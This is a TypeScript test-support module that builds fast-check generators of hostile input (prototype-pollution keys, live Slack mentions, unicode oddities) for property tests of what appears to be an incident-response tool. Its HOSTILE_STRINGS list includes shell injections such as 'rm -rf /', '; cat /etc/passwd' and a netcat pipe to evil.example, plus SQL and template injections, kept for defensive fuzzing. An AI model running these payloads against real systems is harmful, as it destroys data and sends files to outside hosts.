import assert from 'node:assert/strict';
import fc from 'fast-check';

/** Generators of hostile input shared by the hostile-*.test.ts property tests. */

/**
 * One fixed seed unless FC_SEED says otherwise (`FC_SEED=random` explores): a CI run is reproducible, and a failure
 * prints the seed and path that replay it.
 */
const seedFromEnv = process.env.FC_SEED;
if (seedFromEnv !== 'random') {
  const seed = seedFromEnv === undefined ? 20_261_127 : Number(seedFromEnv);
  if (!Number.isSafeInteger(seed))
    throw new Error(`FC_SEED: expected an integer or "random", got ${seedFromEnv}`);
  fc.configureGlobal({ ...fc.readConfigureGlobal(), seed });
}

/** Keys that reach Object.prototype's members when a lookup or merge is careless. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

/** Strings that would be live in Slack mrkdwn (mentions, links) if a message carried them unescaped. */
export const LIVE_MRKDWN = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0MALLORY1>',
  '<!subteam^S0EVIL0001>',
  '<#C0EVIL0001>',
  '<https://evil.example/phish|click me>',
];

/** Injection attempts: shell, SQL, CEL, templating, mrkdwn, and text Postgres or JSON find awkward. */
export const HOSTILE_STRINGS = [
  ...LIVE_MRKDWN,
  '`rm -rf /`',
  '$(touch /tmp/ai-sre-pwned)',
  '; cat /etc/passwd',
  '| nc evil.example 4444',
  '&& curl evil.example',
  "'; DROP TABLE incidents; --",
  '" OR 1=1 --',
  "labels.x == 'a' || true",
  '{{labels.service}}',
  '*bold* _it_ ~strike~ >quote',
  'line\nbreak\r\n\ttab',
  '🔥‍🚒 é ß 中文',
  '\u202e\u200b',
  ...PROTO_KEYS,
];

export const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);

export const hostileKey = fc.oneof(fc.constantFrom(...PROTO_KEYS), fc.string({ maxLength: 12 }));

/** An object whose keys are own properties even when named `__proto__`, so JSON.stringify and YAML emit them. */
export function objectOf(entries: [string, unknown][]): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  for (const [key, value] of entries)
    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  return out;
}

/** Arbitrary JSON values, with prototype-pollution keys at every level and hostile strings. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    hostileString,
    tie('array'),
    tie('object'),
  ),
  array: fc.array(tie('value'), { maxLength: 4 }),
  object: fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 4 }).map(objectOf),
})).value;

export function assertNotPolluted(): void {
  const probe: Record<string, unknown> = {};
  assert.equal(probe.polluted, undefined, 'Object.prototype was polluted');
  assert.equal(Object.hasOwn(Object.prototype, 'polluted'), false);
}

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Path = (string | number)[];

/** Every path into a JSON value (not the root). */
export function pathsOf(value: Json, prefix: Path = []): Path[] {
  if (Array.isArray(value)) return value.flatMap((v, i) => [[...prefix, i], ...pathsOf(v, [...prefix, i])]);
  if (value !== null && typeof value === 'object')
    return Object.entries(value).flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
  return [];
}

export function setAt(value: Json, path: Path, replacement: unknown): Json {
  const copy = structuredClone(value);
  let node = copy as Record<string | number, unknown>;
  for (const part of path.slice(0, -1)) node = node[part] as Record<string | number, unknown>;
  node[path.at(-1) as string | number] = replacement;
  return copy;
}
